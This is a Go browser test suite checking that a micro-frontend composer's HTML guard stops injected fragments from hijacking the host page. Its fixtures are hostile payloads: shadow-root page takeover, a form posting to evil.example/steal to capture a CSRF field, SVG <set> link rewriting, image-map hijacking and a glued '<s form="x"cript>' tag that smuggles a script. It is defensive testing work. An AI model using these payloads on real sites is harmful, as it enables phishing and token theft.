package main

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"sync/atomic"
	"testing"

	"github.com/chromedp/chromedp"

	"github.com/ssr-mfe/composer/composer/settings"
)

// Browser tests of what the HTML guard (package htmlguard) keeps a
// fragment from doing to the page around it, where only a browser can
// tell: Go's parser, the guard's oracle, implements neither declarative
// shadow roots nor the behaviour of id references.

// A fragment cannot take over the page with a declarative shadow root: a
// <template shadowrootmode> at its top level would attach a shadow root to
// the slot's parent, the page's <body> or <main>, and the page's own
// content would no longer be rendered (issue 25, item 1). A shadow root
// on the fragment's own element (Podium's useShadowDOM) still attaches.
func TestBrowserFragmentsCannotAttachShadowRootsToThePage(t *testing.T) {
	frag := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		switch r.URL.Path {
		case "/header": // the outside attack's fragment
			fmt.Fprint(w, `<header id="frag-header">Shop</header><template shadowrootmode="open"><h1 id="fake">Your basket</h1><a href="https://evil.example/pay">Pay here</a></template>`)
		case "/closed": // every attribute of the family, after the fragment's own elements closed
			fmt.Fprint(w, `<div><span>x</span></div><template shadowrootmode="closed" shadowrootdelegatesfocus shadowrootclonable shadowrootserializable><p>fake</p></template>`)
		case "/apodlet": // the same in an async slot, with a top-level template of its own
			fmt.Fprint(w, `<my-podlet id="apodlet"><template shadowrootmode="open"><p id="ainside">async podlet</p></template></my-podlet><template shadowrootmode="open"><p>fake</p></template>`)
		case "/podlet": // Podium's useShadowDOM: the fragment's own custom element
			fmt.Fprint(w, `<my-podlet id="podlet"><template shadowrootmode="open"><p id="inside">podlet content</p><slot></slot></template><span id="light">light</span></my-podlet>`)
		}
	}))
	defer frag.Close()
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, "routes.json"), `{"/": "p.html"}`)
	writeFile(t, filepath.Join(dir, "p.html"), `<!doctype html><html><head><meta charset="utf-8"><title>t</title><link rel="icon" href="data:,"></head><body><micro-frontend id="header" timeout="10s"/>
<p id="body-content">the page's body content</p>
<main id="main"><micro-frontend id="closed" timeout="10s"/><p id="main-content">the page's main content</p>
<div id="podslot"><micro-frontend id="podlet" timeout="10s"/></div>
<div id="apodslot"><micro-frontend id="apodlet" timeout="10s" async/></div>
</main></body></html>`)
	regFile := filepath.Join(t.TempDir(), "registry.json")
	writeFile(t, regFile, fmt.Sprintf(`{"header": %q, "closed": %q, "podlet": %q, "apodlet": %q}`, frag.URL+"/header", frag.URL+"/closed", frag.URL+"/podlet", frag.URL+"/apodlet"))
	inst := start(t, map[string]string{"COMPOSER_TEMPLATES": dir, "COMPOSER_REGISTRY": regFile, "COMPOSER_CSP": settings.DemoCSP, "COMPOSER_CACHE_BYTES": "0"})
	b := newBrowser(t, 800, 600)
	b.open(inst.base + "/")
	b.do(b.until(`document.readyState === "complete"`))
	got := eval[string](b, `(() => {
		const q = s => document.querySelector(s);
		const shown = e => !!e && e.getClientRects().length > 0;
		const r = [];
		// chrome.dom.openOrClosedShadowRoot is not there: a closed root
		// shows in what is rendered.
		if (document.body.shadowRoot) r.push("the page's <body> has a shadow root");
		if (q("#main").shadowRoot) r.push("the page's <main> has a shadow root");
		for (const id of ["body-content", "main-content", "frag-header", "apodslot"]) {
			if (!shown(document.getElementById(id))) r.push("#" + id + " is not rendered");
		}
		const p = q("#podlet");
		if (!p || !p.shadowRoot) r.push("the podlet's own element has no shadow root");
		else {
			const inside = p.shadowRoot.querySelector("#inside");
			if (!shown(inside) || inside.textContent !== "podlet content") r.push("the podlet's shadow root is not rendered");
			if (!shown(q("#light"))) r.push("the podlet's slotted content is not rendered");
		}
		if (q("#podlet > template")) r.push("the podlet's template is still a template");
		// An async fragment is parsed in the composer's <template> and
		// moved into place with its shadow roots.
		const ap = q("#apodslot > #apodlet");
		if (!ap || !ap.shadowRoot || !shown(ap.shadowRoot.querySelector("#ainside"))) r.push("the async podlet's shadow root is not rendered");
		if (q("#apodslot").shadowRoot) r.push("the async slot's element has a shadow root");
		return r.join("; ");
	})()`)
	if got != "" {
		t.Error(got)
	}
	if p := b.seen(); len(p) > 0 {
		t.Errorf("problems under the strict CSP:\n%v", p)
	}
}

// A fragment's element cannot act on the page's elements by id: a
// fragment's buttons cannot open the page's popover or modal dialog, its
// label cannot tick the page's checkbox, its SVG <set> cannot change the
// page's SVG link, and its <form id="checkout">,
// placed before the page's own form of that id, does not capture the
// page's <input form="checkout">: the page's ids are reserved (issue 25,
// item 5). A reference from one fragment to another fragment's id still
// works.
func TestBrowserFragmentsCannotActOnPageElementsByID(t *testing.T) {
	var pageURL atomic.Value // the page's address, known once the composer runs
	frag := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		switch r.URL.Path {
		case "/hostile":
			fmt.Fprint(w, `<form id="checkout" action="https://evil.example/steal" method="post"></form>`+
				`<button id="h-pop" popovertarget="page-popover">open</button>`+
				`<button id="h-cmd" commandfor="page-dialog" command="show-modal">dialog</button>`+
				`<label id="h-label" for="terms">tick</label>`+
				`<button id="h-other" popovertarget="other-popover">the other fragment's popover</button>`+
				`<svg width="1" height="1"><set href="#logo-link" attributeName="href" to="https://evil.example/"/></svg>`+
				// The browser reads an animation's href as a URL: spaces
				// around it, a tab, the page's path or address before the
				// '#', a percent-encoded fragment all name the page's
				// element. Each hides one of the page's texts; the
				// fragment's own <set> hides its own rect.
				`<svg width="1" height="1"><rect id="h-own" width="1" height="1"/>`+
				`<set href="#h-own" attributeName="visibility" to="hidden"/>`+
				`<set href=" #logo-link" attributeName="href" to="https://evil.example/spaced"/>`+
				`<set href=" #t1" attributeName="visibility" to="hidden"/>`+
				`<set href="#t2 " attributeName="visibility" to="hidden"/>`+
				`<set href="&#9;#t3" attributeName="visibility" to="hidden"/>`+
				`<set href="/#t4" attributeName="visibility" to="hidden"/>`+
				`<set href="`+pageURL.Load().(string)+`#t5" attributeName="visibility" to="hidden"/>`+
				`<set href="#t%36" attributeName="visibility" to="hidden"/></svg>`+
				// A map of the page's map's name, earlier in the page,
				// would take the page's image's clicks.
				`<map name="pm"><area shape="default" href="https://evil.example/map"></map>`+
				// An SVG link to an animation element begins it.
				`<svg width="20" height="20"><a id="h-svga" href="#page-anim"><rect width="20" height="20"/></a></svg>`)
		case "/other":
			fmt.Fprint(w, `<div id="other-popover" popover>the other fragment's popover</div>`)
		}
	}))
	defer frag.Close()
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, "routes.json"), `{"/": "p.html"}`)
	writeFile(t, filepath.Join(dir, "p.html"), `<!doctype html><html><head><meta charset="utf-8"><title>t</title><link rel="icon" href="data:,"></head><body><main>
<div id="hslot"><micro-frontend id="hostile" timeout="10s"/></div>
<div id="oslot"><micro-frontend id="other" timeout="10s"/></div>
<form id="checkout" action="/submit" method="post"><button>Pay</button></form>
<input form="checkout" name="csrf" value="secret" id="csrf">
<input type="checkbox" id="terms">
<div id="page-popover" popover>the page's popover</div>
<dialog id="page-dialog">the page's dialog</dialog>
<svg width="100" height="20"><a id="logo-link" href="/home"><text x="0" y="15">home</text></a></svg>
<svg width="300" height="20"><text id="t1" x="0" y="15">1</text><text id="t2" x="20" y="15">2</text><text id="t3" x="40" y="15">3</text><text id="t4" x="60" y="15">4</text><text id="t5" x="80" y="15">5</text><text id="t6" x="100" y="15">6</text></svg>
<svg width="20" height="20"><rect id="anim-target" width="10" height="10"><set id="page-anim" attributeName="visibility" to="hidden" begin="indefinite"/></rect></svg>
<img id="pimg" usemap="#pm" width="40" height="40" alt="map" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"><map name="pm"><area shape="default" href="/page-map" alt="page"></map>
</main></body></html>`)
	regFile := filepath.Join(t.TempDir(), "registry.json")
	writeFile(t, regFile, fmt.Sprintf(`{"hostile": %q, "other": %q}`, frag.URL+"/hostile", frag.URL+"/other"))
	inst := start(t, map[string]string{"COMPOSER_TEMPLATES": dir, "COMPOSER_REGISTRY": regFile, "COMPOSER_CSP": settings.DemoCSP, "COMPOSER_CACHE_BYTES": "0"})
	pageURL.Store(inst.base + "/")
	b := newBrowser(t, 800, 600)
	b.open(inst.base + "/")
	b.do(b.until(`document.readyState === "complete"`))
	if !eval[bool](b, `!!document.querySelector("#hslot #h-other") && !!document.querySelector("#oslot #other-popover")`) {
		t.Fatal("the fragments are not in the page")
	}
	// The fragment's own animation has run: the others had their turn.
	b.do(b.until(`getComputedStyle(document.getElementById("h-own")).visibility === "hidden"`))
	for i := 1; i <= 6; i++ {
		if eval[string](b, fmt.Sprintf(`getComputedStyle(document.getElementById("t%d")).visibility`, i)) != "visible" {
			t.Errorf("the fragment's <set> hid the page's #t%d", i)
		}
	}
	b.do(chromedp.Click(chromedp.CSS("#h-svga")))
	b.do(b.until(`(window.polls = (window.polls || 0) + 1) > 10`)) // a few frames
	if eval[string](b, `getComputedStyle(document.getElementById("anim-target")).visibility`) != "visible" {
		t.Error("the fragment's SVG link began the page's animation")
	}
	// What the page's image map sends a click on its image to.
	if area := eval[string](b, `(() => { const i = document.getElementById("pimg"); i.scrollIntoView(); const r = i.getBoundingClientRect();
		const e = document.elementFromPoint(r.left + 5, r.top + 5); return e && e.tagName === "AREA" ? e.href : String(e && e.tagName) })()`); area != inst.base+"/page-map" {
		t.Errorf("a click on the page's image map goes to %s", area)
	}
	// The buttons and the label are clicked as a visitor would, one at a
	// time, each popover closed before the next click.
	click := func(sel string) {
		t.Helper()
		b.do(chromedp.Click(chromedp.CSS(sel)))
	}
	closePopovers := `document.querySelectorAll(":popover-open").forEach(p => p.hidePopover())`
	var got []string
	click("#h-pop")
	if eval[bool](b, `document.getElementById("page-popover").matches(":popover-open")`) {
		got = append(got, "the fragment's popovertarget opened the page's popover")
	}
	eval[any](b, closePopovers)
	click("#h-label")
	if eval[bool](b, `document.getElementById("terms").checked`) {
		got = append(got, "the fragment's label ticked the page's checkbox")
	}
	if form := eval[string](b, `(() => { const f = document.getElementById("csrf").form; return f ? f.action : "none" })()`); form != inst.base+"/submit" {
		got = append(got, "the page's <input form=checkout> belongs to the form of action "+form)
	}
	// An SVG animation element reaches its target by href="#id": <set>
	// would change the page's SVG link.
	if href := eval[string](b, `(() => { const a = document.getElementById("logo-link"); return a ? a.href.animVal : "gone" })()`); href != "/home" {
		got = append(got, "the fragment's <set> made the page's SVG link's href "+href)
	}
	click("#h-other")
	if !eval[bool](b, `document.getElementById("other-popover").matches(":popover-open")`) {
		got = append(got, "a fragment's popovertarget no longer opens another fragment's popover")
	}
	eval[any](b, closePopovers)
	click("#h-cmd") // last: a modal dialog would take the clicks after it
	if eval[bool](b, `document.getElementById("page-dialog").open`) {
		got = append(got, "the fragment's commandfor opened the page's modal dialog")
	}
	for _, g := range got {
		t.Error(g)
	}
	if p := b.seen(); len(p) > 0 {
		t.Errorf("problems under the strict CSP:\n%v", p)
	}
}

// A fragment cannot write a tag the guard did not read: an attribute the
// guard drops (form, here) directly followed by the next one with no space
// (a="x"b is a and b) left that next one glued to the tag's name, so
// <s form="x"cript> came out <script>, passed neither inert nor checked,
// and ran, on a page without a CSP as on one with (the outside attack on
// issue 25's guard). Now it stays an <s> with an attribute cript, its text
// is text, and the page after the slot is as the template wrote it.
func TestBrowserFragmentsCannotGlueATagName(t *testing.T) {
	frag := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		switch r.URL.Path {
		case "/closed": // the attack's form: the script closed by what follows
			fmt.Fprint(w, `<s form="x"cript>window.__glued=1;//</s><script></script><p id="fragp">frag</p>`)
		case "/plain":
			fmt.Fprint(w, `<s form="x"cript>window.__glued=1</script><p id="fragp">frag</p>`)
		case "/id": // an id of the page, which the guard also drops
			fmt.Fprint(w, `<s id="after"cript>window.__glued=1;//</s><script></script><p id="fragp">frag</p>`)
		}
	}))
	defer frag.Close()
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, "routes.json"), `{"/closed": "closed.html", "/plain": "plain.html", "/id": "id.html"}`)
	for _, name := range []string{"closed", "plain", "id"} {
		writeFile(t, filepath.Join(dir, name+".html"), `<!doctype html><html><head><meta charset="utf-8"><title>t</title><link rel="icon" href="data:,"></head><body>
<main id="main"><div id="slot"><micro-frontend id="`+name+`" timeout="10s"/></div><p id="after">after</p></main>
<footer id="foot">footer</footer></body></html>`)
	}
	regFile := filepath.Join(t.TempDir(), "registry.json")
	writeFile(t, regFile, fmt.Sprintf(`{"closed": %q, "plain": %q, "id": %q}`, frag.URL+"/closed", frag.URL+"/plain", frag.URL+"/id"))
	inst := start(t, map[string]string{"COMPOSER_TEMPLATES": dir, "COMPOSER_REGISTRY": regFile, "COMPOSER_CACHE_BYTES": "0"})
	b := newBrowser(t, 800, 600)
	for _, path := range []string{"/closed", "/plain", "/id"} {
		b.open(inst.base + path)
		b.do(b.until(`document.readyState === "complete"`))
		got := eval[string](b, `(() => {
			const r = [];
			if (window.__glued) r.push("the fragment's glued script ran");
			if (document.querySelector("#slot script:not([type])")) r.push("the slot holds a live script");
			const s = document.querySelector("#slot > s");
			if (!s || !s.hasAttribute("cript")) r.push("the fragment's <s cript> is not in its slot");
			if (!document.querySelector("#slot p#fragp")) r.push("the fragment's paragraph is not in its slot");
			const a = document.getElementById("after");
			if (!a || a.parentElement.id !== "main" || a.previousElementSibling.id !== "slot" || a.textContent !== "after") r.push("the page's #after is not where the template put it");
			const f = document.getElementById("foot");
			if (!f || f.parentElement !== document.body || f.textContent !== "footer") r.push("the page's footer is not where the template put it");
			if (document.title !== "t") r.push("the title is " + document.title);
			return r.join("; ");
		})()`)
		if got != "" {
			t.Errorf("%s: %s", path, got)
		}
	}
}
